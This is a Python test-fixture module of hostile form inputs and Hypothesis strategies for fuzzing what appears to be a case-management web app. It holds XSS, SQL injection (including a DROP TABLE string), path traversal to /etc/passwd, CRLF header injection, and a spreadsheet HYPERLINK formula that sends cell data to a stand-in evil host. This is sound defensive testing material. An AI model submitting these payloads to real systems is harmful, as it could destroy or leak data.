"""Hostile input for the security tests: hand-picked attack strings and hypothesis strategies
for form field values (arbitrary unicode with right-to-left marks and NULs, huge strings, numbers
out of range, impossible dates, lists where one value is expected)."""

from __future__ import annotations

from hypothesis import strategies as st

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "';alert(1);//",
]
SQL = ["' OR 1=1 --", "'; DROP TABLE cases_case; --", "%", "_", "\\", '" OR ""="', "1' AND '1'='1"]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)"]
TRAVERSAL = ["../", "..%2f", "%2e%2e/", "..\\", "/etc/passwd", "%00", "....//"]
RTL_MARKS = "\u200f\u202e\u2066\u2067\u2068\u2069\u061c"

SPECIAL = [
    *XSS,
    *SQL,
    *FORMULAS,
    *TRAVERSAL,
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "header\r\nSet-Cookie: x=1",
    RTL_MARKS,
    "\u202eتم حذف المنشور\u202c",
    "\ufeff",
    "\U0001f600" * 3,
    "9" * 40,
    "-1",
    "0",
    "1e309",
    "NaN",
    "http://",
    "https://evil.example/x?a=<b>",
]


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    """Any unicode (NULs, control characters and bidi marks included), attack strings, and
    strings around and far past a length limit."""
    return st.one_of(
        st.text(max_size=max_size),
        st.text(alphabet=st.sampled_from([*RTL_MARKS, "\x00", "a", "ب", "\n"]), max_size=40),
        st.sampled_from(SPECIAL),
        st.builds(
            lambda c, n: c * n, st.sampled_from(["a", "ب", "\u200f"]), st.integers(0, 30_000)
        ),
    )


def hostile_number() -> st.SearchStrategy[str]:
    return st.one_of(
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(str),
        st.sampled_from(["", "0x10", "1_000", "٣", "١٢", " 7 ", "7.0", "--1"]),
    )


def hostile_date() -> st.SearchStrategy[str]:
    return st.one_of(
        st.dates().map(lambda d: d.isoformat()),
        st.sampled_from(
            ["2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2026-13-01", "2026/03/14"]
        ),
        st.sampled_from(["14/03/2026", "-2026-01-01", "2026-03-14T25:00", "now", "٢٠٢٦-٠٣-١٤"]),
        hostile_text(40),
    )


SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
PAYLOAD = f"{SCRIPT}{IMG}"
